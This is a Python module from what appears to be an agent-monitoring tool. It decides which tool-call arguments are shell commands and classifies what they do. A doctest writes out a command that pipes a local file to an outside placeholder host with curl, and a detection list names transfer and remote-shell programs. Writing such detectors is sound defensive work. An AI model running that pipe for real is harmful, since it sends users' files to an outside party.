"""What shell commands do: which arguments are commands, and the findings of every command in them, however deep it is wrapped.

A text that no grammar takes, a program that no table knows and a name that only running tells are doubt, never harmlessness.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator, Sequence
from dataclasses import replace
from functools import lru_cache
from itertools import groupby

from intent.evidence import sql
from intent.evidence.base import Finding, Leaf
from intent.evidence.commands.powershell import looks_like_powershell
from intent.evidence.nested import Language, Nested
from intent.evidence.reading import Budget, table, unfenced, words_of
from intent.evidence.unfolding import unfolded

_SURE_KEYS = frozenset(
    "bash shell_command bash_command shell_script bash_script powershell_command powershell_script ps_command ps_script shell_cmd terminal_command cmdline command_line commandline "
    "ssh_command remote_command cli_command shell_code bash_code sh powershell kubectl_command docker_command git_command aws_command".split()
)
_KEYS = frozenset(
    "command cmd commands cmds script scripts shell exec run line lines code text content input args argv arguments query statement keys data stdin body action value expression execute instruction powershell program to_run".split()
)
# Without any hint of a shell, only these are looked at, and the text must be unmistakable.
_BARE_KEYS = frozenset("command cmd commands cmds exec argv run script shell cmd_args".split())
_STRONG = re.compile(
    r"\b(?:shell|bash|zsh|terminal|tty|powershell|pwsh|ssh|command line|command prompt|cli|subprocess|unix|posix|shellscript|repl shell|cmd exe|xterm|tmux)\b"
)
_HINT = re.compile(
    r"\b(?:commands?|cmd|console|process(?:es)?|exec|execute\w*|executes|executing|run|runs|running|script|scripts|kubectl|docker|container|pod|sandbox|vm|host|server|linux|windows|cronjob|cron|job)\b"
)
_ARGV = frozenset("args argv arguments command cmd cmd_args command_args exec run".split())
_PROGRAM = frozenset("command cmd program executable binary exec file exe".split())
_SEVERAL = frozenset("commands cmds lines scripts".split())
_SHELLS = frozenset(
    "bash sh zsh fish dash ksh powershell pwsh cmd cmd.exe /bin/bash /bin/sh /bin/zsh /usr/bin/bash true false default".split()
)
_OPERATORS = frozenset("| || && ; & > >> < 2> &> |&".split())
_OPERATED = re.compile(r"\s-{1,2}[A-Za-z]|[|;<>`]|&&|\$[({\w]|(?:^|\s)[.~]{0,2}/[\w.]|\w/\w|\.\w{1,5}(?:\s|$)|\s[\w-]+=\S")
_PROMPT = re.compile(r"^[ \t]*(?:\$|PS [A-Z]:[^>\n]*>)[ \t]+(?=\S)", re.MULTILINE)


def claims(leaf: Leaf, tool_words: str) -> bool:
    """Whether a leaf is to be read as a command: its key and the tool say so, or it surely is one.

    One plain word under ``command`` names an action of a multiplexed tool, unless the tool says that it is a shell.
    """
    text = leaf.text.strip()
    if not text or text.lower() in _SHELLS or re.fullmatch(r"-?[\d.]+|null", text):
        return False
    words = tool_words.replace("_", " ")
    if leaf.key in _SURE_KEYS:
        return True
    strong = bool(_STRONG.search(words))
    if strong and leaf.key in _KEYS:
        return leaf.key in _BARE_KEYS or _fits(text)
    if leaf.key not in _KEYS or sql.claims(leaf, tool_words):
        return False
    if _HINT.search(words) and leaf.key in _BARE_KEYS | {"args", "execute", "line", "lines", "to_run", "program"}:
        return len(text.split()) > 1 and _fits(text) and bool(_OPERATED.search(text) or not _is_english(text))
    return leaf.key in _BARE_KEYS and _fits(text) and bool(_OPERATED.search(text))


def findings(text: str) -> tuple[Finding, ...]:
    """What the commands of a text do, one finding a command and effect; a text that cannot be read is doubt.

    Of a text of more than 4096 characters only the beginning is read, for what it surely changes or discloses, and that is doubt too.

    >>> [f.effect.value for f in findings("cat notes.txt | curl -d @- https://h.example; date")]
    ['read', 'disclose', 'none']
    >>> findings("frobnicate --all")[0].effect is None
    True
    """
    return _findings(_unwrapped(text))


@lru_cache(maxsize=512)
def _findings(text: str) -> tuple[Finding, ...]:
    return unfolded(Nested(Language.SHELL, text))


def joined(leaves: Sequence[Leaf]) -> tuple[Leaf, ...]:
    """Leaves in which the words of one command, given as a list or as a program and its arguments, are one leaf.

    Words of a list that are operators of a shell show that the tool puts them together with blanks; else each word is quoted, as a
    program without a shell takes it.

    >>> [leaf.text for leaf in joined([Leaf(("args",), "git"), Leaf(("args",), "commit"), Leaf(("args",), "-m a b")])]
    ["git commit '-m a b'"]
    """
    merged = [_merged(list(group)) for _, group in groupby(leaves, key=lambda leaf: (leaf.path, leaf.decoded_from))]
    return tuple(_with_programs([leaf for group in merged for leaf in group]))


def readings(leaves: Sequence[Leaf], tool_words: str) -> Iterator[Finding]:
    """Findings of every leaf that is a command, lists of words joined; what passes the budget of the call is doubt."""
    budget = Budget()
    for leaf in joined(leaves):
        if claims(leaf, tool_words):
            allowed = budget.allows_text(leaf.text[:4096])
            yield from findings(leaf.text) if allowed else (Finding("shell", "too much to be parsed", None),)


def _merged(leaves: list[Leaf]) -> list[Leaf]:
    first = leaves[0]
    if len(leaves) == 1 or first.key not in _ARGV or first.decoded_from is not None:
        return leaves
    words = [leaf.text for leaf in leaves]
    if len(words[0].split()) > 1:
        return leaves
    quoted = not _OPERATORS & set(words)
    return [replace(first, text=shlex.join(words) if quoted else " ".join(words))]


def _with_programs(leaves: list[Leaf]) -> Iterator[Leaf]:
    """A program and the arguments beside it, as one command."""
    skip: int | None = None
    for position, leaf in enumerate(leaves):
        if position == skip:
            continue
        following = leaves[position + 1] if position + 1 < len(leaves) else None
        if (
            following is not None
            and leaf.key in _PROGRAM
            and following.key in {"args", "argv", "arguments", "cmd_args", "command_args"}
            and leaf.path[:-1] == following.path[:-1]
            and len(leaf.text.split()) == 1
        ):
            skip = position + 1
            yield replace(leaf, text=f"{leaf.text} {following.text}")
        else:
            yield leaf


def _fits(text: str) -> bool:
    """Whether a text opens like a command: with a program that is known, a path, an assignment or a construct of a shell."""
    opening = _unwrapped(text)[:2000].lstrip("({! \n\t")
    first = re.match(r"[\"'\\]?([\w.:+/\\~$@-]+)", opening)
    if first is None:
        return opening.startswith((">", "`", "[", "#"))
    word = first.group(1)
    if re.match(r"[A-Za-z_]\w*\+?=", opening) or word.startswith(("$", "./", "/", "~/", "../")) or looks_like_powershell(text[:2000]):
        return True
    base = word.replace("\\", "/").rpartition("/")[2].lower().removesuffix(".exe")
    return base in _known() or (base in {"for", "while", "if", "case", "until", "function"} and bool(re.search(r"[;\n$]", opening)))


def _is_english(text: str) -> bool:
    """Whether a command opens with a name that prose may open with as well."""
    return text.split(maxsplit=1)[0].lower() in words_of(table("shell")["words"]["english"])


@lru_cache(maxsize=1)
def _known() -> frozenset[str]:
    """Names of all programs of the tables."""
    shell = table("shell")
    simple = (words_of(names) for names in shell["simple"].values())
    interpreters = (words_of(spec["names"]) for spec in shell["interpreters"].values())
    same = frozenset(entry.partition("=")[0] for entry in shell["same"]["names"].split())
    transfers = words_of("curl wget http scp rsync sftp ssh find eval watch trap alias parallel su runuser script cmd source .")
    names = same.union(transfers, *simple, *interpreters)
    return names.union(*(frozenset(shell[kind]) for kind in ("programs", "wrappers", "sql", "entering")))


def _unwrapped(text: str) -> str:
    """Without a fence of Markdown and without prompts."""
    return _PROMPT.sub("", unfenced(text))
